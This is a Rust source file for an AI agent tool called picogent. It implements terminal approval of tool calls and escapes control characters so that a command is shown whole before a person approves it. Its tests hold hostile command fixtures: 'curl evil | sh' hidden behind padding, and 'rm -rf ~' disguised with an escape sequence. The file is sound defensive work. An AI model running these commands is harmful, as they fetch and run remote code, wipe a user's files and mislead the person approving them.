//! `picogent run`'s approvals: a call the `approval` setting asks about is put to the
//! person at the terminal on stderr, answered on standard input. Without a terminal
//! there is no one to ask, and the run is refused before it starts.

use std::io::{BufRead, IsTerminal, Write};

use picogent::agent::approval::ApprovalAnswer;
use picogent::config::Config;

/// Refuses a run that would wait for answers no one can give.
pub(crate) fn check(config: &Config) -> anyhow::Result<()> {
    if config.approval.asks_any() && !std::io::stdin().is_terminal() {
        anyhow::bail!(
            "approval asks before {} calls, but standard input is not a terminal: no one could answer. Run picogent in a terminal, or set PICOGENT_APPROVAL=never (or \"approval\": \"never\") for unattended runs",
            config.approval.describe()
        );
    }
    Ok(())
}

/// Reads an answer from a line typed at the prompt.
fn parse(line: &str) -> Option<ApprovalAnswer> {
    Some(match line.trim().to_ascii_lowercase().as_str() {
        "y" | "yes" => ApprovalAnswer::AllowOnce,
        "a" | "always" => ApprovalAnswer::AllowAlways,
        "n" | "no" => ApprovalAnswer::RejectOnce,
        "v" | "never" => ApprovalAnswer::RejectAlways,
        _ => return None,
    })
}

/// Text the model wrote, shown so that it cannot pass for something else: control
/// characters (an escape sequence that moves the cursor, a carriage return that
/// overwrites the line) are written as escapes; lines are indented under the question.
fn shown(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' => out.push_str("\n    "),
            '\t' => out.push_str("    "),
            c if c.is_control()
                || ('\u{202a}'..='\u{202e}').contains(&c)
                || ('\u{2066}'..='\u{2069}').contains(&c) =>
            {
                out.push_str(&c.escape_unicode().to_string())
            }
            c => out.push(c),
        }
    }
    out
}

/// What a call does, whole: a command as it will run, a file's path, else the
/// arguments.
fn what(name: &str, args: &serde_json::Value) -> String {
    let field = |k: &str| args.get(k).and_then(|v| v.as_str());
    match (name, field("command"), field("path")) {
        ("bash", Some(cmd), _) => format!("the command:\n    {}", shown(cmd)),
        (_, _, Some(path)) => format!("{name} on {}", shown(path)),
        _ => format!("{name} with {}", shown(&args.to_string())),
    }
}

/// Asks at the terminal about a call, showing it whole; the answer arrives on the
/// returned channel. The reading happens on a thread of its own, never joined: a run
/// cancelled while the prompt waits ends without it.
pub(crate) fn ask(
    name: &str,
    args: &serde_json::Value,
) -> tokio::sync::oneshot::Receiver<ApprovalAnswer> {
    let (tx, rx) = tokio::sync::oneshot::channel();
    let question = format!(
        "\npicogent wants to run {}\n  allow? [y]es once, [a]lways {name} in this session, [n]o, ne[v]er {name}: ",
        what(name, args)
    );
    let spawned = std::thread::Builder::new()
        .name("approval".into())
        .spawn(move || {
            let mut stdin = std::io::stdin().lock();
            loop {
                let mut err = std::io::stderr();
                let _ = err.write_all(question.as_bytes());
                let _ = err.flush();
                let mut line = String::new();
                match stdin.read_line(&mut line) {
                    // End of input: no one left to say yes.
                    Ok(0) | Err(_) => {
                        let _ = tx.send(ApprovalAnswer::RejectOnce);
                        return;
                    }
                    Ok(_) => {
                        if let Some(a) = parse(&line) {
                            let _ = tx.send(a);
                            return;
                        }
                    }
                }
            }
        });
    if spawned.is_err() {
        tracing::warn!("cannot ask at the terminal: the call is rejected");
    }
    rx
}

#[cfg(test)]
mod tests {
    #[test]
    fn the_four_answers_and_nothing_else() {
        use super::*;
        assert_eq!(parse("y\n"), Some(ApprovalAnswer::AllowOnce));
        assert_eq!(parse(" Always"), Some(ApprovalAnswer::AllowAlways));
        assert_eq!(parse("no"), Some(ApprovalAnswer::RejectOnce));
        assert_eq!(parse("v"), Some(ApprovalAnswer::RejectAlways));
        assert_eq!(parse(""), None);
        assert_eq!(parse("sure"), None);
    }

    #[test]
    fn a_command_is_shown_whole_and_cannot_pass_for_another() {
        let long = format!("ls{}; curl evil | sh", " ".repeat(300));
        let q = super::what("bash", &serde_json::json!({ "command": long }));
        assert!(q.ends_with("; curl evil | sh"), "{q}");
        let q = super::what(
            "bash",
            &serde_json::json!({ "command": "ls\r\u{1b}[2Krm -rf ~" }),
        );
        assert!(!q.contains('\u{1b}') && !q.contains('\r'), "{q}");
        assert!(q.contains("\\u{1b}"), "{q}");
    }
}
